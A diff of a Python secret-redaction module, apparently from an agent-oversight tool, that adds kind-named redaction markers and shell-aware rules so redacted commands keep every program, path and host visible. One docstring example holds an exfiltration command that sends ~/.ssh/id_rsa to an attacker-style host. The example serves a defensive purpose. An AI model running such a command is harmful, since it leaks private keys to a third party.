@@ -1,210 +1,79 @@
 """Redact secrets from text and nested values before they are logged or recorded.
 
 Everything Interlock writes where a person or a file can see it — log lines, error
-messages, audit records — passes through a :class:`Redactor` first. It knows the common
-credential shapes (bearer tokens, cloud and SaaS API keys, JWTs, PEM private keys,
-``password=...`` style pairs, auth headers, credentials in URLs) and replaces the
-secret part with :data:`REDACTED`, keeping a short non-secret hint so a reader can
-still tell what kind of secret was there.
+messages, audit records, events, the approvals page — passes through a
+:class:`Redactor` first. It knows the common credential shapes (cloud, SaaS and model
+API keys, JWTs, PEM private keys, ``password=...`` pairs, passwords on command lines,
+auth headers, credentials in URLs; see :mod:`interlock.core.redaction_rules`) and
+replaces each secret with a marker that names its kind, ``[REDACTED:<kind>]``, keeping
+the label around it (``Authorization: Bearer``, ``password=``, ``--password``).
+
+A redaction covers one word at most. It never crosses whitespace, a quote or a shell
+operator, and a secret that would be a word of its own is hidden only where that word
+cannot be the command (:mod:`interlock.core.redaction_slots`): whoever reads a
+redacted command still sees every operator, program, path and host in it.
 
 Example::
 
     >>> from interlock.core.redaction import redact, redact_value
     >>> redact("curl -H 'Authorization: Bearer abc.def-123' https://api.example.com")
-    "curl -H 'Authorization: [REDACTED]' https://api.example.com"
-    >>> redact("GET /cb?token=abc123&page=2")
-    'GET /cb?token=[REDACTED]&page=2'
+    "curl -H 'Authorization: Bearer [REDACTED:authorization]' https://api.example.com"
+    >>> redact("echo cookie: x; curl -d @~/.ssh/id_rsa https://evil.example")
+    'echo cookie: [REDACTED:cookie]; curl -d @~/.ssh/id_rsa https://evil.example'
     >>> redact_value({"user": "bob", "api_key": "anything", "raw": b"\\x00\\x01"})
     {'user': 'bob', 'api_key': '[REDACTED]', 'raw': '<bytes len=2>'}
 
-All built-in patterns are linear-time: every unbounded repetition either always
-succeeds or is anchored so that no two failing attempts rescan the same text.
-Patterns passed as ``extra_patterns`` are the caller's responsibility in that respect.
+A value under a key that names a secret (``password``, ``api_key``...) is replaced
+whole, by the plain :data:`REDACTED`. All built-in patterns are linear-time; patterns
+passed as ``extra_patterns`` are the caller's responsibility in that respect.
 """
 
 from __future__ import annotations
 
-__all__ = ["REDACTED", "Redactor", "redact", "redact_value"]
+__all__ = ["MARKER_RE", "REDACTED", "Redactor", "redact", "redact_value"]
 
 import functools
 import re
 from collections.abc import Sequence
-from dataclasses import dataclass
 from typing import Any, Final
 
+from interlock.core.redaction_rules import (
+    RULES,
+    combined_for,
+    key_kind,
+    marker,
+    shape_kind,
+)
+from interlock.core.redaction_slots import SlotReader
+
 REDACTED: str = "[REDACTED]"
-"""The marker that replaces every secret."""
+"""The marker that replaces a value whose key names a secret."""
+
+MARKER_RE: Final = re.compile(r"\[REDACTED(?::([a-z0-9-]+))?\]")
+"""Finds the markers in redacted text; group 1 is the kind (empty for :data:`REDACTED`)."""
+
+_POLICY_KIND: Final = "policy"
 
 _TRUNCATED: Final = "<truncated: depth>"
 _CYCLE: Final = "<cycle>"
 _REPR_LIMIT: Final = 200
-# A repr is redacted before it is cut to _REPR_LIMIT (cutting first could shorten a
-# secret below its pattern's minimum length); only this much of it is scanned.
-_REPR_SCAN_LIMIT: Final = 8192
 # Ints this wide cannot be printed under Python's default int-to-str digit limit
 # (4300 digits), so json.dumps would raise on them: they are described instead.
 _INT_MAX_BITS: Final = 13_000
+# Where a policy pattern's match is cut: one word, like every built-in redaction.
+_WORD_BREAK: Final = re.compile(r"[\s;&|<>()`]|\$[({]")
+# A key (or flag) name around a key=value match, to name the kind of secret.
+_KEY_CHARS: Final = re.compile(r"[A-Za-z0-9_.\-]{0,64}")
+_KEY_BEFORE: Final = re.compile(r"[A-Za-z0-9_.\-]+\Z")
+_COOKIE_PAIR: Final = re.compile(r";([ \t]*)([^=;\s]+)=([^;\s]+)")
+_OPAQUE: Final = re.compile(r"[A-Za-z0-9_%+=\-]{16,}")
+_KEEP_PREFIX: Final = tuple(rule.keep_prefix for rule in RULES)
+_RESCAN: Final = tuple(rule.rescan_prefix for rule in RULES)
+_SLOT: Final = tuple(rule.slot for rule in RULES)
+_KIND: Final = tuple(rule.kind for rule in RULES)
+_NAME: Final = tuple(rule.name for rule in RULES)
+_SHAPE: Final = tuple(rule.shape for rule in RULES)
 
-
-@dataclass(frozen=True, slots=True)
-class _Rule:
-    """One built-in secret shape.
-
-    A match is ``first`` (a one-character class) followed by ``rest``; ``rest`` has
-    exactly one capturing group, named ``s``: the secret. Text the match covers
-    before and after that group is kept as the hint (before it only if
-    ``keep_prefix``). Splitting off the first character lets the combined regex
-    start with a character set, which the engine scans for without trying every
-    rule at every position. Word-boundary checks are therefore written after the
-    first character, as ``(?<!X.)``. ``triggers`` are lowercase literals at least
-    one of which occurs in every possible match: text containing no trigger of any
-    rule skips the regex altogether.
-    """
-
-    name: str
-    first: str
-    rest: str
-    triggers: tuple[str, ...]
-    keep_prefix: bool = True
-    rescan_prefix: bool = False  # redact the kept prefix too (it may hold a token)
-
-
-# -- building blocks ---------------------------------------------------------------
-
-# An optional quote (possibly backslash-escaped, as in JSON inside a JSON string).
-_OPT_QUOTE = r"""(?:\\?["'])?"""
-# A quoted value's content; which branch applies is decided by the quote just consumed.
-_QUOTED = (
-    r'(?<=\\")[^"\\\r\n]+'  # \"...\"  (escaped JSON): stop at the next backslash
-    r"|(?<=\\')[^'\\\r\n]+"
-    r'|(?<=")(?:[^"\\\r\n]|\\.)+'  # "..." with backslash escapes
-    r"|(?<=')(?:[^'\\\r\n]|\\.)+"
-)
-# A value never starts a PEM block: the PEM rule must see the BEGIN line to redact
-# the whole key, so key=value and header rules step aside for it.
-_NOT_PEM = r"(?!-----BEGIN )"
-# After a key: optional closing quote, ':' or '=', optional opening quote.
-_SEP = rf"{_OPT_QUOTE}[ \t]{{0,8}}[:=][ \t]{{0,8}}{_OPT_QUOTE}"
-_HEADER_SEP = rf"{_OPT_QUOTE}[ \t]{{0,8}}:[ \t]{{0,8}}{_OPT_QUOTE}"
-_PEM_LABEL = r"(?:[A-Z0-9]+ ){0,3}PRIVATE KEY(?: BLOCK)?"
-
-_RULES: Final[tuple[_Rule, ...]] = (
-    _Rule(
-        # BEGIN line, body, END line (optional, so a truncated key is still covered).
-        # The body stops at a quote or at a run of five dashes.
-        "pem_private_key",
-        "-",
-        rf"----BEGIN {_PEM_LABEL}-----(?P<s>(?:[^\-\"']|-(?!----))*)"
-        rf"(?:-----END {_PEM_LABEL}-----)?",
-        ("private key",),
-    ),
-    _Rule(
-        # Authorization / x-api-key / cookie headers: the value to the end of the line
-        # (or to a closing quote followed by a delimiter, as in curl -H '...').
-        # Listed before key_value, which would stop "api-key: a b" at the space.
-        "http_header",
-        "[aAcC]",
-        r"(?:(?<=[aA])(?i:uthorization|pi-key|uth-token)|(?<=[cC])(?i:ookie))"
-        rf"{_HEADER_SEP}(?P<s>{_NOT_PEM}(?:{_QUOTED}"
-        r"|(?i:digest)[ \t][^\r\n]*"
-        r"""|[^\s"'\\](?:[^\r\n"']|["'](?![\s,;)\]}]|\Z))*))""",
-        ("authorization", "key", "token", "cookie"),
-    ),
-    _Rule(
-        # password=..., "token": "...", ?access_token=...&x=1: any key ending in
-        # password, passwd, passphrase, pwd, secret, token, api_key / apikey,
-        # access_key, private_key or authorization.
-        "key_value",
-        "[pPsStTaA]",
-        r"(?:(?<=[pP])(?i:assw(?:or)?d|assphrase|wd|rivate[_-]?key)|(?<=[sS])(?i:ecret)"
-        r"|(?<=[tT])(?i:oken)|(?<=[aA])(?i:pi[_-]?key|ccess[_-]?key|uthorization))"
-        rf"{_SEP}(?P<s>{_NOT_PEM}(?:{_QUOTED}"
-        r"""|(?:(?i:bearer|basic)[ \t]+)?[^\s&"',;\\][^\s&"',;]*))""",
-        ("pass", "pwd", "secret", "token", "key", "authorization"),
-    ),
-    _Rule(
-        # scheme://user:password@host -- the password, up to the last '@'. The match
-        # starts at "://" (the scheme stays outside it, untouched).
-        "url_credentials",
-        ":",
-        r"""(?<=[A-Za-z0-9+.\-]:)//[^\s:/?#@"'<>]{0,256}:(?P<s>[^\s/?#"'<>]+)@""",
-        ("@",),
-        rescan_prefix=True,  # the kept user name may itself be a token
-    ),
-    _Rule(
-        # RFC 6750 b64token, 8+ chars, not all lowercase after its first character
-        # (so "Bearer authentication failed" is left alone).
-        "bearer_token",
-        "[bB]",
-        r"(?<![A-Za-z0-9_\-].)(?i:earer)[ \t]+"
-        r"(?P<s>(?=[A-Za-z0-9._~+/\-][a-z]*[A-Z0-9._~+/=\-])[A-Za-z0-9._~+/\-]{8,}=*)",
-        ("bearer",),
-    ),
-    _Rule(
-        "aws_access_key_id",
-        "A",
-        r"(?<![A-Za-z0-9].)(?:KIA|SIA)(?P<s>[A-Z0-9]{16})(?![A-Za-z0-9])",
-        ("akia", "asia"),
-    ),
-    _Rule(
-        "openai_anthropic_key",
-        "s",
-        r"(?<![A-Za-z0-9_\-].)k-(?:(?:proj|ant|svcacct|admin)-)?(?P<s>[A-Za-z0-9_\-]{20,})",
-        ("sk-",),
-    ),
-    _Rule(
-        "github_token",
-        "g",
-        r"(?<![A-Za-z0-9_].)(?:h[pousr]_(?=[A-Za-z0-9]{36})|ithub_pat_(?=[A-Za-z0-9_]{22}))"
-        r"(?P<s>[A-Za-z0-9_]+)",
-        ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"),
-    ),
-    _Rule(
-        "slack_token",
-        "x",
-        r"(?<![A-Za-z0-9_\-].)ox[abprs]-(?P<s>[A-Za-z0-9\-]{10,})",
-        ("xox",),
-    ),
-    _Rule(
-        "google_api_key",
-        "A",
-        r"(?<![A-Za-z0-9_\-].)Iza(?P<s>[A-Za-z0-9_\-]{35,})",
-        ("aiza",),
-    ),
-    _Rule(
-        # header.payload.signature (the signature may be empty; JWE's five parts too).
-        # The whole token is the secret: no hint is kept.
-        "jwt",
-        "e",
-        r"(?<![A-Za-z0-9_\-].)(?P<s>yJ[A-Za-z0-9_\-]+\.[A-Za-z0-9_\-]+\.[A-Za-z0-9_\-]*"
-        r"(?:\.[A-Za-z0-9_\-]+){0,2})",
-        ("eyj",),
-        keep_prefix=False,
-    ),
-)
-
-
-def _combine(rules: Sequence[_Rule]) -> re.Pattern[str]:
-    """``[all first chars](?:(?<=first_0)rest_0|...)``; rule i's group becomes ``s{i}``."""
-    firsts = "".join(sorted({c for rule in rules for c in _chars(rule.first)}))
-    branches = [
-        f"(?<={rule.first}){rule.rest.replace('(?P<s>', f'(?P<s{i}>', 1)}"
-        for i, rule in enumerate(rules)
-    ]
-    return re.compile(f"[{re.escape(firsts)}](?:{'|'.join(branches)})", re.ASCII)
-
-
-def _chars(first: str) -> str:
-    """The characters of a rule's ``first``: one literal, or a simple ``[...]`` class."""
-    return first[1:-1] if first.startswith("[") else first
-
-
-_COMBINED: Final = _combine(_RULES)
-_TRIGGERS: Final = tuple(sorted({t for rule in _RULES for t in rule.triggers}))
-# One C-level search instead of a Python loop over the triggers: same answer.
-_TRIGGER_RE: Final = re.compile("|".join(re.escape(t) for t in _TRIGGERS))
-_RESCAN: Final = tuple(rule.rescan_prefix for rule in _RULES)
-_KEEP_PREFIX: Final = tuple(rule.keep_prefix for rule in _RULES)
 
 # -- dict keys that name a secret ------------------------------------------------------
 
@@ -335,10 +204,11 @@ class _NotPlain(Exception):
 class Redactor:
     """A compiled set of secret patterns: the built-ins plus optional extras.
 
-    ``extra_patterns`` are user regexes, compiled once; a match is replaced whole by
-    :data:`REDACTED`, or — if the pattern has a group named ``secret`` — only that
-    group is. An invalid pattern raises :class:`ValueError` naming it. Instances are
-    immutable and safe to share between threads.
+    ``extra_patterns`` are user regexes (the policy's ``redaction.patterns``), compiled
+    once; a match — or, if the pattern has a group named ``secret``, that group — is
+    replaced by ``[REDACTED:policy]``, up to its first whitespace or shell operator,
+    like every other redaction. An invalid pattern raises :class:`ValueError` naming
+    it. Instances are immutable and safe to share between threads.
     """
 
     __slots__ = ("_extra", "_extra_sources")
@@ -369,15 +239,48 @@ class Redactor:
     # -- text ------------------------------------------------------------------------
 
     def redact(self, text: str) -> str:
-        """Return ``text`` with every secret replaced (hints such as ``Bearer `` kept)."""
+        """Return ``text`` with every secret replaced by a marker naming its kind
+        (labels such as ``Authorization: Bearer `` kept)."""
         if not isinstance(text, str):
             raise TypeError(f"redact() takes a str, not {_type_name(text)}")
         lowered = str.lower(text)  # str.lower: a str subclass cannot lie about it
-        if _TRIGGER_RE.search(lowered) is not None:
-            text = _COMBINED.sub(_replace_builtin, text)
+        builtin = combined_for(lowered)
+        if builtin is not None:
+            text = builtin.sub(_Builtin(), text)
         for pattern in self._extra:
             text = pattern.sub(_replace_extra, text)
         return text
+
+    def cut(self, text: str, limit: int, *, ellipsis: str = "…") -> str:
+        """``text`` redacted, then cut to at most ``limit`` characters (ending in
+        ``ellipsis`` when cut). Redacting first is the point: a cut cannot leave part
+        of a secret too short to be recognised. A cut inside a word drops that word
+        (when an earlier one ends), so a policy pattern that the caller applies later
+        never meets half a match either.
+
+        Example::
+
+            >>> Redactor().cut("token=" + "a1B2" * 10 + " and then some more words", 34)
+            'token=[REDACTED:token] and then …'
+        """
+        if limit < len(ellipsis) + 1:
+            raise ValueError(f"limit must leave room for the ellipsis, not {limit!r}")
+        # Only the part that can show is read; its last word may be cut in two, so
+        # that word is dropped before redaction, not after.
+        window = limit * 8 + 4096
+        if len(text) > window:
+            head = text[:window]
+            space = max(head.rfind(" "), head.rfind("\n"), head.rfind("\t"))
+            text = head[:space] if space > 0 else head
+        out = self.redact(text)
+        if len(out) <= limit:
+            return out
+        head = out[: limit - len(ellipsis)]
+        if not out[len(head)].isspace():
+            space = max(head.rfind(" "), head.rfind("\n"), head.rfind("\t"))
+            if space > 0:
+                head = head[: space + 1]
+        return head + ellipsis
 
     # -- values ----------------------------------------------------------------------
 
@@ -463,10 +366,7 @@ class Redactor:
             text = repr(value)
         except Exception:
             return _unrepresentable(value)
-        text = self.redact(str.__str__(text)[:_REPR_SCAN_LIMIT])
-        if len(text) > _REPR_LIMIT:
-            text = text[: _REPR_LIMIT - 3] + "..."
-        return text
+        return self.cut(str.__str__(text), _REPR_LIMIT, ellipsis="...")
 
 
 class _Walk:
@@ -555,29 +455,114 @@ class _Walk:
         return _PENDING
 
 
-def _replace_builtin(match: re.Match[str]) -> str:
-    name = match.lastgroup
-    if name is None:  # cannot happen: every rule has a mandatory secret group
-        return REDACTED
-    index = int(name[1:])
-    start, end = match.span(name)
-    whole_start, whole_end = match.span()
-    text = match.string
-    prefix = text[whole_start:start] if _KEEP_PREFIX[index] else ""
-    if _RESCAN[index]:
-        prefix = _COMBINED.sub(_replace_builtin, prefix)
-    return prefix + REDACTED + text[end:whole_end]
+class _Builtin:
+    """The replacement function of one :meth:`Redactor.redact` call: it keeps the
+    shell reading of that one text (made only when a slot needs it)."""
+
+    __slots__ = ("reader",)
+
+    def __init__(self) -> None:
+        self.reader: SlotReader | None = None
+
+    def _reader(self, text: str) -> SlotReader:
+        reader = self.reader
+        if reader is None or reader.text is not text:
+            reader = self.reader = SlotReader(text)
+        return reader
+
+    def __call__(self, match: re.Match[str]) -> str:
+        name = match.lastgroup
+        if name is None:  # cannot happen: every rule has a mandatory secret group
+            return match.group(0)
+        index = int(name[1:])
+        text = match.string
+        start, end = match.span(name)
+        whole_start, whole_end = match.span()
+        secret = text[start:end]
+        if _SLOT[index] and not self._reader(text).is_argument(start):
+            # The word could be the command: leave it visible (a token whose shape
+            # alone says it is a secret is still hidden in it).
+            return text[whole_start:start] + _shapes_in(secret) + _shapes_in(text[end:whole_end])
+        kind = _KIND[index]
+        if not kind:
+            named = key_kind(_key_at(text, whole_start), secret)
+            if named is None:
+                return text[whole_start:whole_end]
+            kind = named
+        if not _SHAPE[index]:
+            kind = shape_kind(secret) or kind
+        prefix = text[whole_start:start] if _KEEP_PREFIX[index] else ""
+        if _RESCAN[index]:
+            rules = combined_for(prefix.lower())
+            if rules is not None:
+                prefix = rules.sub(self, prefix)
+        suffix = text[end:whole_end]
+        if suffix and _NAME[index] == "cookie_header":
+            suffix = self._cookie_pairs(text, end, suffix)
+        return prefix + marker(kind) + suffix
+
+    def _cookie_pairs(self, text: str, at: int, pairs: str) -> str:
+        """The cookies after the first: inside quotes, where ';' is no shell operator,
+        every value is hidden; elsewhere the pair after a ';' may be a shell variable
+        assignment, so only opaque values (session ids) are."""
+        quoted = self._reader(text).in_quotes(at)
+
+        def one(pair: re.Match[str]) -> str:
+            value = pair.group(3)
+            if quoted or _OPAQUE.fullmatch(value):
+                value = marker(shape_kind(value) or "cookie")
+            else:
+                value = _shapes_in(value)
+            return f";{pair.group(1)}{pair.group(2)}={value}"
+
+        return _COOKIE_PAIR.sub(one, pairs)
+
+
+def _key_at(text: str, start: int) -> str:
+    """The key (or flag, or XML tag) name a key=value match starts in."""
+    if text.startswith("<", start):
+        tag = text[start + 1 : text.index(">", start)]
+        return tag.rpartition(":")[2]
+    before = _KEY_BEFORE.search(text, max(0, start - 64), start)
+    begin = start if before is None else before.start()
+    found = _KEY_CHARS.match(text, start)
+    return text[begin : found.end() if found else start]
+
+
+def _shapes_in(word: str) -> str:
+    """``word`` with only the tokens of a known shape in it replaced."""
+    rules = combined_for(word.lower())
+    return word if rules is None else rules.sub(_ShapesOnly(), word)
+
+
+class _ShapesOnly(_Builtin):
+    """A replacement that hides shape tokens and leaves every slot as it is."""
+
+    __slots__ = ()
+
+    def __call__(self, match: re.Match[str]) -> str:
+        name = match.lastgroup
+        if name is not None and not _SLOT[int(name[1:])] and _KIND[int(name[1:])]:
+            return super().__call__(match)
+        return match.group(0)
 
 
 def _replace_extra(match: re.Match[str]) -> str:
-    if match.start() == match.end():  # a pattern that can match "" inserts nothing
-        return ""
+    """A policy pattern's match (or its ``secret`` group), cut to its first word."""
+    start, end = match.span()
     if "secret" in match.re.groupindex:
-        start, end = match.span("secret")
-        if start >= 0 and end > start:
-            text = match.string
-            return text[match.start() : start] + REDACTED + text[end : match.end()]
-    return REDACTED
+        group_start, group_end = match.span("secret")
+        if group_start >= 0:
+            start, end = group_start, group_end
+    text = match.string
+    while start < end and _WORD_BREAK.match(text, start):
+        start += 1
+    cut = _WORD_BREAK.search(text, start, end)
+    if cut is not None:
+        end = cut.start()
+    if end <= start:
+        return match.group(0)
+    return text[match.start() : start] + marker(_POLICY_KIND) + text[end : match.end()]
 
 
 _DEFAULT: Final = Redactor()
